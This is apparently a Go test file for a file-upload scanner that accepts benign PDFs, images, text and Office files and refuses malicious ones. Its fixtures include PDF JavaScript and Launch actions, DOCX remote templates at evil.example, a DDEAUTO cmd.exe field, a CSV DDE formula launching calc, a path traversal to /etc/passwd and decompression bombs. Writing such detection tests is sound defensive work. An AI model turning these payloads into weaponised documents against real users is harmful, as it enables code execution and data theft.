package scan

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"hash/crc32"
	"strings"
	"testing"
)

func examine(t testing.TB, name string, content []byte) *Finding {
	t.Helper()
	found, err := Examine(context.Background(), name, bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return found
}

func TestWhatPeopleSendIsTaken(t *testing.T) {
	relation := func(kind, target string) string {
		return `<Relationship Id="r9" Type="` + officeURI + kind + `" Target="` + target + `" TargetMode="External"/>`
	}
	for _, tt := range []struct {
		name    string
		content []byte
	}{
		{"return.pdf", onePDF("")},
		{"opens at its first page.pdf", onePDF("/OpenAction [3 0 R /XYZ null null 0]")},
		{"opens by an action.pdf", onePDF("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")},
		{"opens by an object.pdf", onePDF("/OpenAction 5 0 R", "5 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj")},
		{"link.pdf", onePDF("", "6 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.dor.example/JS/Launch) >> >> endobj")},
		{"compressed.pdf", onePDF("", streamOfObjects("/Type /ObjStm", "<< /Title (/JS) /Differences [65 /A /JS /AA] >>"))},
		{"a line before.pdf", append([]byte("\r\n"), onePDF("")...)},
		{"a line behind.pdf", append(onePDF(""), "\r\n\r\n\x00"...)},
		{"letter.jpg", oneJPEG(40, 30)}, {"letter.JPEG", oneJPEG(40, 30)},
		{"with a preview.jpg", append(oneJPEG(40, 30), oneJPEG(8, 8)...)},
		{"with a film.jpg", append(oneJPEG(40, 30), "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00"...)},
		{"with zeros.jpg", append(oneJPEG(40, 30), make([]byte, 5000)...)},
		{"letter.png", onePNG(40, 30)},
		{"words.txt", []byte("Guía de impuestos\r\n")}, {"code page.txt", []byte("Gu\xeda")}, {"about.txt", []byte("To write <script> in a page")},
		{"wide.txt", []byte("\xff\xfeG\x00u\x00\xed\x00a\x00")},
		{"sales.csv", []byte("day,amount\n2026-01-31,-4.50\n2026-02-28,\"=SUM(B2:B2)\"\n|,!\n")},
		{"rates.brf", []byte("  ,! TABLE ( RATES\r\n\f")},
		{"answer.docx", oneDocx("", "")},
		{"links.docx", oneDocx("", relation("hyperlink", "https://www.dor.example/a?b=c:d")+relation("hyperlink", "mailto:ana@example.com")+relation("hyperlink", "page.htm#part:2"))},
		{"books.xlsx", oneXlsx()},
		{"talk.mp3", oneMP3(30)},
		{"statement.2025.final.pdf", onePDF("")},
	} {
		if found := examine(t, tt.name, tt.content); found != nil {
			t.Errorf("%s is refused: %s", tt.name, found.Sentence)
		}
	}
}

func TestFilesThatLieOrActAreRefusedWithTheReason(t *testing.T) {
	outside := func(kind, target string) string {
		return `<Relationship Id="r9" Type="` + officeURI + kind + `" Target="` + target + `" TargetMode="External"/>`
	}
	page := []byte("<html><script>alert(1)</script></html>")
	zipped := archiveOf(part{"a.txt", "words", zip.Deflate})
	for _, tt := range []struct {
		what, name string
		content    []byte
		reason     string
	}{
		{"an empty file", "a.pdf", nil, ReasonEmptiness},
		{"an archive", "a.zip", zipped, ReasonKind},
		{"an archive as a document", "a.docx", zipped, ReasonKind},
		{"an archive as a PDF", "a.pdf", zipped, ReasonKind},
		{"a document as a table", "a.xlsx", oneDocx("", ""), ReasonKind},
		{"a program of two endings", "invoice.exe.pdf", onePDF(""), ReasonProgram},
		{"a program", "invoice.pdf.exe", []byte("MZ"), ReasonKind},

		{"a PDF behind a page", "a.pdf", append(bytes.Clone(page), onePDF("")...), ReasonKind},
		{"a PDF before an archive", "a.pdf", append(onePDF(""), zipped...), ReasonAppended},
		{"a PDF before a page", "a.pdf", append(onePDF(""), page...), ReasonAppended},
		{"half a PDF", "a.pdf", onePDF("")[:300], ReasonDamaged},
		{"a PDF of nothing", "a.pdf", []byte("%PDF-1.7\n%%EOF"), ReasonDamaged},
		{"a locked PDF", "a.pdf", bytes.Replace(onePDF(""), []byte("/Size 10"), []byte("/Encrypt 8 0 R"), 1), ReasonLocked},
		{"a script at the opening", "a.pdf", onePDF("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), ReasonActive},
		{"names in hexadecimal", "a.pdf", onePDF("/OpenAction << /S /#4aava#53cript /#4A#53 (x) >>"), ReasonActive},
		{"a program to start", "a.pdf", onePDF("", "5 0 obj << /S /Launch /F (cmd.exe) >> endobj"), ReasonActive},
		{"an action of a page", "a.pdf", onePDF("", "5 0 obj << /Type /Page /AA << /O 6 0 R >> >> endobj"), ReasonActive},
		{"an address at the opening", "a.pdf", onePDF("/OpenAction << /S /URI /URI (http://evil.example) >>"), ReasonActive},
		{"an address at the opening, elsewhere", "a.pdf", onePDF("/OpenAction 5 0 R", "5 0 obj << /URI (http://evil.example) /S /URI >> endobj"), ReasonActive},
		{"a file inside", "a.pdf", onePDF("/Names << /EmbeddedFiles 5 0 R >>"), ReasonActive},
		{"a film", "a.pdf", onePDF("", "5 0 obj << /Subtype /RichMedia >> endobj"), ReasonActive},
		{"a form of XML", "a.pdf", onePDF("/AcroForm << /XFA [(a) 5 0 R] >>"), ReasonActive},
		{"a script in a stream of objects", "a.pdf", onePDF("", streamOfObjects("/Type /ObjStm", "<< /S /JavaScript /J#53 (x) >>")), ReasonActive},
		{"in a stream that does not say so", "a.pdf", onePDF("", streamOfObjects("", "<< /S /JavaScript >>")), ReasonActive},
		{"in a string of a stream of objects", "a.pdf", onePDF("", streamOfObjects("/Type /ObjStm", "( << /S /JavaScript >> )")[:0]+objectsAt("20 2 ", "( << /S /JavaScript >> )")), ReasonActive},
		{"an object in a string", "a.pdf", onePDF("", "5 0 obj (\n6 0 obj << /S /JavaScript >> endobj\n) endobj"), ReasonActive},
		{"an object in a remark", "a.pdf", onePDF("", "% 6 0 obj << /S /JavaScript >> endobj"), ReasonActive},
		{"an object in a stream", "a.pdf", onePDF("", "5 0 obj << /Length 40 >> stream\n6 0 obj << /S /JavaScript >>\nendstream endobj"), ReasonActive},
		{"a remark in an object's number", "a.pdf", onePDF("", "5 0 %x\nobj << /S /JavaScript >> endobj"), ReasonActive},
		{"objects packed in a strange way", "a.pdf", onePDF("", strings.Replace(streamOfObjects("/Type /ObjStm", "<< >>"), "/FlateDecode", "[/ASCIIHexDecode /FlateDecode]", 1)), ReasonDamaged},
		{"a stream of objects that never ends", "a.pdf", onePDF("", streamOfObjects("/Type /ObjStm", strings.Repeat(" ", 9<<20)+"<< >>")), ReasonBomb},
		{"objects in objects", "a.pdf", onePDF("", strings.Repeat("1 0 obj(", 20_000)), ReasonDamaged},
		{"arrays in arrays", "a.pdf", onePDF("", "5 0 obj "+strings.Repeat("[", 200)+" endobj"), ReasonDamaged},

		{"macros", "a.docx", oneDocx("", "", part{"word/vbaProject.bin", "\x00\x01", zip.Deflate}), ReasonMacros},
		{"macros by their kind", "a.docx", oneDocx(`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`, ""), ReasonMacros},
		{"a template with macros", "a.docx", oneDocx(`<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`, ""), ReasonMacros},
		{"a template from elsewhere", "a.docx", oneDocx("", outside("attachedTemplate", "http://evil.example/a.dotm")), ReasonInside},
		{"a picture from elsewhere", "a.docx", oneDocx("", outside("image", "http://evil.example/a.png")), ReasonInside},
		{"an address that runs", "a.docx", oneDocx("", outside("hyperlink", "ms-msdt:/id%zz")), ReasonInside},
		{"a file of the reader's", "a.docx", oneDocx("", outside("hyperlink", `\\evil.example\share`)), ReasonInside},
		{"an object of another program", "a.docx", oneDocx("", "", part{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", zip.Deflate}), ReasonInside},
		{"a program inside", "a.docx", oneDocx("", "", part{"word/media/image1.png", "MZ\x90\x00", zip.Store}), ReasonInside},
		{"an archive inside", "a.docx", oneDocx("", "", part{"word/media/image1.png", string(zipped), zip.Store}), ReasonInside},
		{"a field that starts a program", "a.docx", oneDocx("", "", part{"word/header1.xml", `<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>`, zip.Deflate}), ReasonInside},
		{"XML that grows", "a.docx", oneDocx("", "", part{"word/header1.xml", `<!DOCTYPE a [<!ENTITY b "bb">]>`, zip.Deflate}), ReasonDamaged},
		{"names that lead elsewhere", "a.docx", oneDocx("", "", part{"../../etc/passwd", "x", zip.Deflate}), ReasonDamaged},
		{"one name twice", "a.docx", oneDocx("", "", part{"word/Document.xml", "x", zip.Deflate}), ReasonDamaged},
		{"a bomb", "a.docx", oneDocx("", "", part{"word/media/image1.bmp", strings.Repeat("\x00", 20<<20), zip.Deflate}), ReasonBomb},
		{"a bomb that lies about its size", "a.docx", liar(oneDocx("", "", part{"word/media/image1.bmp", strings.Repeat("\x00", 20<<20), zip.Deflate})), ReasonDamaged},
		{"too many parts", "a.docx", oneDocx("", "", manyParts(mostEntries)...), ReasonBomb},
		{"a locked document", "a.docx", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 512)...), ReasonLocked},
		{"locked parts", "a.docx", lockedParts(oneDocx("", "")), ReasonLocked},
		{"something before the archive", "a.docx", append(bytes.Clone(zipped), oneDocx("", "")...), ReasonDamaged},
		{"something behind the archive", "a.docx", append(oneDocx("", ""), page...), ReasonDamaged},
		{"half a document", "a.docx", oneDocx("", "")[:400], ReasonDamaged},

		{"a flood of points", "a.png", wide(onePNG(4, 4), 60_000, 60_000), ReasonPixels},
		{"a flood of points in a photograph", "a.jpg", wideJPEG(oneJPEG(8, 8)), ReasonPixels},
		{"a wrong checksum", "a.png", flip(onePNG(4, 4), 45), ReasonDamaged},
		{"half a picture", "a.png", onePNG(40, 30)[:60], ReasonDamaged},
		{"half a photograph", "a.jpg", oneJPEG(40, 30)[:400], ReasonDamaged},
		{"a photograph of nothing", "a.jpg", []byte("\xff\xd8\xff\xd9"), ReasonDamaged},
		{"an archive behind a picture", "a.png", append(onePNG(4, 4), zipped...), ReasonAppended},
		{"an archive far behind a picture", "a.png", append(append(onePNG(4, 4), "comment"...), zipped...), ReasonAppended},
		{"a page behind a photograph", "a.jpg", append(oneJPEG(8, 8), page...), ReasonAppended},
		{"a page far behind a photograph", "a.jpg", append(append(oneJPEG(8, 8), make([]byte, 70_000)...), page...), ReasonAppended},
		{"a PDF behind a photograph", "a.jpg", append(oneJPEG(8, 8), onePDF("")...), ReasonAppended},
		{"a photograph as a picture", "a.png", oneJPEG(8, 8), ReasonKind},

		{"a page as text", "a.txt", page, ReasonMarkup},
		{"a page as text, in wide letters", "a.txt", []byte("\xff\xfe<\x00h\x00t\x00m\x00l\x00>\x00"), ReasonMarkup},
		{"a drawing as a table", "a.csv", []byte("\xef\xbb\xbf\n <SVG onload='x'>"), ReasonMarkup},
		{"a script as text", "a.txt", []byte("#!/bin/sh\n"), ReasonMarkup},
		{"NUL in text", "a.txt", append(bytes.Repeat([]byte("words "), 2000), 0), ReasonKind},
		{"NUL in wide text", "a.txt", []byte("\xfe\xff\x00a\x00\x00"), ReasonKind},
		{"half a wide letter", "a.txt", []byte("\xfe\xff\x00a\x00"), ReasonDamaged},
		{"a formula that starts a program", "a.csv", []byte("a,b\n\"=cmd|'/C calc'!A0\",1"), ReasonFormulas},
		{"words as sound", "a.mp3", []byte("\xff\xfb words and words"), ReasonKind},
		{"an archive behind sound", "a.mp3", append(oneMP3(30), zipped...), ReasonAppended},
	} {
		found := examine(t, tt.name, tt.content)
		switch {
		case found == nil:
			t.Errorf("%s was taken", tt.what)
		case found.Reason != tt.reason:
			t.Errorf("%s is refused as %q, want %q", tt.what, found.Reason, tt.reason)
		case !strings.Contains(found.Sentence.String(), tt.name):
			t.Errorf("%s: %q does not name the file", tt.what, found.Sentence)
		}
	}
}

// objectsAt is a stream of objects whose head says where the object lies: inside another one.
func objectsAt(head, object string) string {
	content := packed(head + object)
	return "10 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\n" + content + "\nendstream\nendobj"
}

// manyParts are parts of nothing.
func manyParts(n int) []part {
	parts := make([]part, n)
	for i := range parts {
		parts[i] = part{"word/" + strings.Repeat("a", i%40) + string(rune('a'+i%26)) + strings.Repeat("b", i/40) + ".xml", "", zip.Store}
	}
	for i := range parts {
		parts[i].name = parts[i].name[:min(len(parts[i].name), 60)] + "-" + string(rune('0'+i%10)) + string(rune('0'+i/10%10)) + string(rune('0'+i/100%10)) + string(rune('0'+i/1000%10))
	}
	return parts
}

// liar says in an archive's directory that its largest part is small.
func liar(archive []byte) []byte {
	var large [4]byte
	binary.LittleEndian.PutUint32(large[:], 20<<20)
	i := bytes.LastIndex(archive, large[:])
	binary.LittleEndian.PutUint32(archive[i:], 1000)
	return archive
}

func lockedParts(archive []byte) []byte {
	for i := 0; ; {
		j := bytes.Index(archive[i:], []byte("PK\x01\x02"))
		if j < 0 {
			return archive
		}
		i += j + 4
		archive[i+4] |= 1
	}
}

func wide(picture []byte, width, height uint32) []byte {
	binary.BigEndian.PutUint32(picture[16:], width)
	binary.BigEndian.PutUint32(picture[20:], height)
	binary.BigEndian.PutUint32(picture[29:], crc32.ChecksumIEEE(picture[12:29]))
	return picture
}

func wideJPEG(picture []byte) []byte {
	i := bytes.Index(picture, []byte("\xff\xc0"))
	copy(picture[i+5:], "\xff\xff\xff\xff")
	return picture
}

func flip(content []byte, i int) []byte {
	content[i] ^= 0x10
	return content
}
